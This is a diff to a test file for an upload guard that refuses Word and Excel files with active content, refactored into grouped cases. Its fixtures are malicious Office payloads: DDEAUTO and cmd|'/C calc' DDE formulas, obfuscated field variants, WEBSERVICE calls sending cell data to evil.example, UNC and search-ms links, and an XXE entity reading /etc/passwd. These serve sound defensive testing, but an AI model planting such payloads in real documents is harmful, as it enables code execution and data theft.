@@ -32,98 +32,95 @@ const linked = (...entry: readonly [string, string, string?]): Parts => ({
   'word/_rels/document.xml.rels': relationships(entry),
 });
 
+type Made = readonly (readonly [what: string, parts: Parts])[];
+/** Tests that a document with any of these is refused for this. */
+const refusesWord = (refusal: UploadRefusal, documents: Made) =>
+  test.each(documents)('GUARD-10 %s', async (_what, parts) => {
+    expect(await refusalOfWord(await docxFile(parts))).toEqual(refusal);
+  });
+const refusesSheet = (refusal: UploadRefusal, workbooks: Made) =>
+  test.each(workbooks)('GUARD-10 %s', async (_what, parts) => {
+    expect(await refusalOfSheet(await xlsxFile(parts))).toEqual(refusal);
+  });
+
 describe('GUARD-10 a Word document with active content is refused', () => {
-  const program = active('office-program');
-  test.each<readonly [string, Parts, UploadRefusal]>([
-    [
-      'a program asked for data',
-      word(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
-      program,
-    ],
-    ['the same in small letters and behind a space', word(field(' dde excel a b')), program],
-    ['the same in pieces', word(field('DD', 'EA', 'UTO cmd x')), program],
-    ['the same in a part of a character each', word(field('&#68;D<!-- -->E<![CDATA[AUTO]]> cmd x')), program],
-    ['the same in one element', word('<w:fldSimple w:instr="DDEAUTO cmd x"/>'), program],
-    ['the same under another prefix', word(field('DDE cmd x').replaceAll('w:', 'v:')), program],
+  refusesWord(active('office-program'), [
+    ['a program asked for data', word(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))],
+    ['the same in small letters and behind a space', word(field(' dde excel a b'))],
+    ['the same in pieces', word(field('DD', 'EA', 'UTO cmd x'))],
+    ['the same in a part of a character each', word(field('&#68;D<!-- -->E<![CDATA[AUTO]]> cmd x'))],
+    ['the same in one element', word('<w:fldSimple w:instr="DDEAUTO cmd x"/>')],
+    ['the same under another prefix', word(field('DDE cmd x').replaceAll('w:', 'v:'))],
     [
       'the same within another field',
       word(`${mark('begin')}${instruction('IF ')}${field('DDE a b')}${mark('end')}`),
-      program,
     ],
     [
       'the same put together by another field',
       word(`${mark('begin')}${instruction('DD')}${field('QUOTE 69')}${instruction(' cmd x')}${mark('end')}`),
-      program,
     ],
-    ['the same in a field that does not end', word(`${mark('begin')}${instruction('DDE cmd x')}`), program],
-    ['the same without a beginning', word(instruction('DDE cmd x')), program],
-    [
-      'the same in text that was deleted',
-      word(field('DDE cmd x').replaceAll('instrText', 'delInstrText')),
-      program,
-    ],
-    ['the same in a header', { 'word/header1.xml': wordText(field('DDE cmd x')) }, program],
+    ['the same in a field that does not end', word(`${mark('begin')}${instruction('DDE cmd x')}`)],
+    ['the same without a beginning', word(instruction('DDE cmd x'))],
+    ['the same in text that was deleted', word(field('DDE cmd x').replaceAll('instrText', 'delInstrText'))],
+    ['the same in a header', { 'word/header1.xml': wordText(field('DDE cmd x')) }],
     [
       'the same in UTF-16',
       { 'word/document.xml': utf16(wordText(field('DDE cmd x')).replace('UTF-8', 'UTF-16')) },
-      program,
     ],
-    ['the same in a part of another name', { 'word/a.dat': wordText(field('DDE cmd x')) }, program],
-    ['a text that is fetched', word(field('INCLUDETEXT "\\\\\\\\server\\\\a.docx"')), elsewhere],
-    ['a picture that is fetched', word(field('INCLUDEPICTURE "https://evil.example/a.png" \\d')), elsewhere],
-    ['a table that is fetched', word(field('LINK Excel.Sheet.8 "c:\\\\a.xls"')), elsewhere],
-    ['a text that is fetched, as it was written before', word(field('INCLUDE "c:\\\\a.docx"')), elsewhere],
-    ['a picture that is fetched, as it was written before', word(field('IMPORT "c:\\\\a.png"')), elsewhere],
-    ['a table out of a database', word(field('DATABASE \\d "c:\\\\a.mdb"')), elsewhere],
-    ['a document of the index', word(field('RD c:\\\\a.docx')), elsewhere],
-    ['a link to a file in a field', word(field('HYPERLINK "file://server/a"')), active('office-link')],
-    ['a link to the network in a field', word(field('HYPERLINK \\\\\\\\server\\\\a')), active('office-link')],
-    ['a link to a file', linked('hyperlink', 'file:///c:/a.exe', 'External'), active('office-link')],
-    ['a link to the network', linked('hyperlink', '\\\\server\\a', 'External'), active('office-link')],
-    ['a link that is a search', linked('hyperlink', 'search-ms:query=a', 'External'), active('office-link')],
-    ['a picture in the network', linked('image', '\\\\server\\a.png', 'External'), elsewhere],
-    ['a picture on the web', linked('image', 'https://evil.example/a.png', 'External'), elsewhere],
-    ['a picture elsewhere that says it is inside', linked('image', 'file://server/a.png'), elsewhere],
-    ['a picture by its address', word('<v:imagedata src="\\\\server\\a.png"/>'), elsewhere],
+    ['the same in a part of another name', { 'word/a.dat': wordText(field('DDE cmd x')) }],
+  ]);
+
+  refusesWord(elsewhere, [
+    ['a text that is fetched', word(field('INCLUDETEXT "\\\\\\\\server\\\\a.docx"'))],
+    ['a picture that is fetched', word(field('INCLUDEPICTURE "https://evil.example/a.png" \\d'))],
+    ['a table that is fetched', word(field('LINK Excel.Sheet.8 "c:\\\\a.xls"'))],
+    ['a text that is fetched, as it was written before', word(field('INCLUDE "c:\\\\a.docx"'))],
+    ['a picture that is fetched, as it was written before', word(field('IMPORT "c:\\\\a.png"'))],
+    ['a table out of a database', word(field('DATABASE \\d "c:\\\\a.mdb"'))],
+    ['a document of the index', word(field('RD c:\\\\a.docx'))],
+    ['a picture in the network', linked('image', '\\\\server\\a.png', 'External')],
+    ['a picture on the web', linked('image', 'https://evil.example/a.png', 'External')],
+    ['a picture elsewhere that says it is inside', linked('image', 'file://server/a.png')],
+    ['a picture by its address', word('<v:imagedata src="\\\\server\\a.png"/>')],
     [
       'a picture by its address in a drawing',
       { 'word/a.vml': '<xml><br><v:imagedata src="http://evil.example/a"></xml>' },
-      elsewhere,
     ],
-    ['a frame', linked('frame', 'https://evil.example', 'External'), elsewhere],
-    ['another document', linked('subDocument', 'a.docx', 'External'), elsewhere],
+    ['a frame', linked('frame', 'https://evil.example', 'External')],
+    ['another document', linked('subDocument', 'a.docx', 'External')],
+  ]);
+
+  refusesWord(active('office-link'), [
+    ['a link to a file in a field', word(field('HYPERLINK "file://server/a"'))],
+    ['a link to the network in a field', word(field('HYPERLINK \\\\\\\\server\\\\a'))],
+    ['a link to a file', linked('hyperlink', 'file:///c:/a.exe', 'External')],
+    ['a link to the network', linked('hyperlink', '\\\\server\\a', 'External')],
+    ['a link that is a search', linked('hyperlink', 'search-ms:query=a', 'External')],
+  ]);
+
+  refusesWord(active('office-data'), [
     [
       'a database behind a serial letter',
       { 'word/settings.xml': wordText('<w:connectString w:val="DSN=a"/>') },
-      active('office-data'),
     ],
-    ['buttons of its own', { 'customUI/customUI14.xml': '<customUI/>' }, active('office-add-in')],
-    ['an add-in', { 'word/webextensions/taskpanes.xml': '<a/>' }, active('office-add-in')],
-    ['an add-in, by what points to it', linked('webextensiontaskpanes', 'a.xml'), active('office-add-in')],
+  ]);
+
+  refusesWord(active('office-add-in'), [
+    ['buttons of its own', { 'customUI/customUI14.xml': '<customUI/>' }],
+    ['an add-in', { 'word/webextensions/taskpanes.xml': '<a/>' }],
+    ['an add-in, by what points to it', linked('webextensiontaskpanes', 'a.xml')],
+  ]);
+
+  refusesWord(active('office-definitions'), [
     [
       'definitions',
       { 'word/document.xml': `<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>` },
-      active('office-definitions'),
     ],
-    [
-      'definitions in UTF-16',
-      { 'word/document.xml': utf16('<!DOCTYPE a><a/>') },
-      active('office-definitions'),
-    ],
-    [
-      'definitions in a drawing',
-      { 'word/media/a.svg': '<!DOCTYPE svg><svg/>' },
-      active('office-definitions'),
-    ],
-    ['definitions in an older drawing', { 'word/a.vml': '<!DOCTYPE a><xml/>' }, active('office-definitions')],
-    [
-      'definitions in a list',
-      { 'word/_rels/a.xml.rels': '<!DOCTYPE a><Relationships/>' },
-      active('office-definitions'),
-    ],
-  ])('GUARD-10 %s', async (_what, parts, refusal) => {
-    expect(await refusalOfWord(await docxFile(parts))).toEqual(refusal);
-  });
+    ['definitions in UTF-16', { 'word/document.xml': utf16('<!DOCTYPE a><a/>') }],
+    ['definitions in a drawing', { 'word/media/a.svg': '<!DOCTYPE svg><svg/>' }],
+    ['definitions in an older drawing', { 'word/a.vml': '<!DOCTYPE a><xml/>' }],
+    ['definitions in a list', { 'word/_rels/a.xml.rels': '<!DOCTYPE a><Relationships/>' }],
+  ]);
 
   test.each<readonly [string, string | Buffer]>([
     ['an encoding we do not read', '<?xml version="1.0" encoding="UTF-7"?><a/>'],
@@ -144,44 +141,38 @@ const sheet = (formula: string): Parts => ({
 });
 
 describe('GUARD-10 a workbook that reaches out is refused', () => {
-  const data = active('office-data');
-  test.each<readonly [string, Parts, UploadRefusal]>([
-    ['a program asked for data', sheet("cmd|'/C calc'!A0"), active('office-program')],
+  refusesSheet(active('office-program'), [
+    ['a program asked for data', sheet("cmd|'/C calc'!A0")],
     [
       'a program in a name',
       {
         'xl/workbook.xml':
           '<workbook><definedNames><definedName name="a">cmd|\'/C calc\'!A0</definedName></definedNames></workbook>',
       },
-      active('office-program'),
     ],
     [
       'a program in a rule for a cell',
       { 'xl/worksheets/sheet1.xml': "<worksheet><formula1>cmd|'/C calc'!A0</formula1></worksheet>" },
-      active('office-program'),
     ],
     [
       'a program in a part that says so',
       { 'xl/a.xml': '<a><x:ddeLink xmlns:x="x" ddeService="cmd" ddeTopic="/C calc"/></a>' },
-      active('office-program'),
     ],
-    ['the web', sheet('_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)'), data],
-    ['a picture of the web', sheet('_xlfn.IMAGE(A1)'), data],
-    ['a program that delivers data', sheet('RTD(&quot;a.b&quot;,,1)'), data],
-    ['a call into a library', sheet('SUM(CALL (&quot;a&quot;,&quot;b&quot;))'), data],
-    ['a library that is made known', sheet('REGISTER.ID(&quot;a&quot;,&quot;b&quot;)'), data],
-    ['a program that is run', sheet('EXEC(&quot;calc&quot;)'), data],
-    ['a program that is asked', sheet('DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;a&quot;)'), data],
-    ['a database that is asked', sheet('SQL.REQUEST(&quot;DSN=a&quot;)'), data],
-    ['another workbook', sheet('[1]Sheet1!A1'), data],
-    ['another workbook with a space', sheet("'[1]Our sheet'!$A$1"), data],
-    ['another workbook in the network', sheet("'\\\\server\\[a.xlsx]Sheet1'!A1"), data],
-    [
-      'a link to a file',
-      sheet('HYPERLINK(&quot;\\\\server\\a&quot;,&quot;Open&quot;)'),
-      active('office-link'),
-    ],
-    ['links to other workbooks', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }, data],
+  ]);
+
+  refusesSheet(active('office-data'), [
+    ['the web', sheet('_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)')],
+    ['a picture of the web', sheet('_xlfn.IMAGE(A1)')],
+    ['a program that delivers data', sheet('RTD(&quot;a.b&quot;,,1)')],
+    ['a call into a library', sheet('SUM(CALL (&quot;a&quot;,&quot;b&quot;))')],
+    ['a library that is made known', sheet('REGISTER.ID(&quot;a&quot;,&quot;b&quot;)')],
+    ['a program that is run', sheet('EXEC(&quot;calc&quot;)')],
+    ['a program that is asked', sheet('DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;a&quot;)')],
+    ['a database that is asked', sheet('SQL.REQUEST(&quot;DSN=a&quot;)')],
+    ['another workbook', sheet('[1]Sheet1!A1')],
+    ['another workbook with a space', sheet("'[1]Our sheet'!$A$1")],
+    ['another workbook in the network', sheet("'\\\\server\\[a.xlsx]Sheet1'!A1")],
+    ['links to other workbooks', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }],
     [
       'links to other workbooks, by their type',
       {
@@ -191,20 +182,20 @@ describe('GUARD-10 a workbook that reaches out is refused', () => {
           'xl/a.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
         }),
       },
-      data,
     ],
     [
       'links to other workbooks, by what points to them',
       { 'xl/_rels/workbook.xml.rels': relationships(['externalLink', 'a.xml']) },
-      data,
     ],
-    ['a database', { 'xl/connections.xml': '<connections/>' }, data],
-    ['a query', { 'xl/queryTables/queryTable1.xml': '<queryTable/>' }, data],
-    ['a model of data', { 'xl/model/item.data': 'x' }, data],
-    ['a query of the newer kind', { 'customXml/item1.xml': utf16('<DataMashup>AAAA</DataMashup>') }, data],
-  ])('GUARD-10 %s', async (_what, parts, refusal) => {
-    expect(await refusalOfSheet(await xlsxFile(parts))).toEqual(refusal);
-  });
+    ['a database', { 'xl/connections.xml': '<connections/>' }],
+    ['a query', { 'xl/queryTables/queryTable1.xml': '<queryTable/>' }],
+    ['a model of data', { 'xl/model/item.data': 'x' }],
+    ['a query of the newer kind', { 'customXml/item1.xml': utf16('<DataMashup>AAAA</DataMashup>') }],
+  ]);
+
+  refusesSheet(active('office-link'), [
+    ['a link to a file', sheet('HYPERLINK(&quot;\\\\server\\a&quot;,&quot;Open&quot;)')],
+  ]);
 });
 
 describe('GUARD-10 ordinary documents are accepted', () => {
